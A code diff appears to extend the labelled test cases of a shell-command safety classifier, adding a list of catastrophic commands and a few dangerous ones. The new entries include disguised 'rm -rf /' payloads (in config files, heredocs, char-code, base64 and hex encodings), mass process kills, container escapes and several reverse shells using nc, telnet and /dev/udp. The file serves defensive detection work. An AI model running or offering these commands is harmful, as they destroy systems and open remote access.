@@ -249,7 +249,40 @@ RUN_LATER_AND_VARIANTS = [
     "ssh -o 'LocalCommand=rm -rf /' -o PermitLocalCommand=yes host",
 ]
 
-CATASTROPHIC = GIT + VARIABLES + OPTIONS + SCRIPTS + INDIRECTION + RUN_LATER_AND_VARIANTS
+CONFIGURATION_FILES_AND_MORE = [
+    "printf '[core]\\n\\tpager = rm -rf /\\n' >> .git/config",
+    "echo -e '[alias]\\n\\tx = !rm -rf ~' >> ~/.gitconfig",
+    "printf 'Host *\\n  ProxyCommand rm -rf /\\n' >> ~/.ssh/config",
+    "rsync -e \"ssh -o ProxyCommand='rm -rf /'\" src h:d",
+    "tar xf a.tar --to-command 'sh -c \"rm -rf ~\"'",
+    "make -f- <<< $'all:\\n\\t@rm -rf /'",
+    "echo 'all:; rm -rf /' | make -f -",
+    "expect -f - <<< 'spawn rm -rf /'",
+    "psql -f - <<< '\\! rm -rf /'",
+    "gdb -batch -x /dev/stdin <<< 'shell rm -rf /'",
+    "vim -es +'!rm -rf /' +q",
+    "rm -rf ${HOME%/${USER}}",
+    "rm -rf ${HOME%/$USER}",
+    "python3 -c \"import os; os.system(''.join(map(chr,[114,109,32,45,114,102,32,47])))\"",
+    "python3 -c \"import os; os.system(''.join(chr(c) for c in [114,109,32,45,114,102,32,47]))\"",
+    "python3 -c \"import os; os.system(bytes([114,109,32,45,114,102,32,47]).decode())\"",
+    "node -e \"require('child_process').execSync(String.fromCharCode(114,109,32,45,114,102,32,47))\"",
+    "pkill -9 -u root",
+    "pkill -KILL -u $USER",
+    "killall -9 -u $(whoami)",
+    "kill -9 $(pgrep -u root)",
+    "kubectl exec -it pod -- sh -c 'chroot /host rm -rf /'",
+    "kubectl exec pod -- bash -c 'nsenter -t 1 -m -- rm -rf /etc'",
+    "docker run --rm -v /:/host alpine sh -c 'rm -rf /host/*'",
+    "sh -i >& /dev/udp/10.0.0.1/53 0>&1",
+    "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h 4444 > /tmp/f",
+    "telnet h 4444 | /bin/sh | telnet h 4445",
+    "rm -rf \"$(dirname \"$HOME\")\"",
+    "echo 'cm0gLXJmIC8=' | openssl base64 -d -A | sh",
+    "echo 726d202d7266202f | xxd -p -r | sh",
+]
+
+CATASTROPHIC = GIT + VARIABLES + OPTIONS + SCRIPTS + INDIRECTION + RUN_LATER_AND_VARIANTS + CONFIGURATION_FILES_AND_MORE
 
 DANGEROUS = [
     "git -c core.pager='delta' log",
@@ -284,6 +317,10 @@ DANGEROUS = [
     "echo '0 3 * * * /usr/local/bin/backup' | crontab -",
     "echo '* * * * * root /usr/bin/true' > /etc/cron.d/noop",
     "killall -r 'pyth.*'",
+    "pkill -u bob",
+    "pkill -u root sshd",
+    "printf '[core]\\n\\tpager = less\\n' >> .git/config",
+    "kubectl exec pod -- sh -c 'rm -rf /var/cache/app'",
 ]
 
 SAFE = [
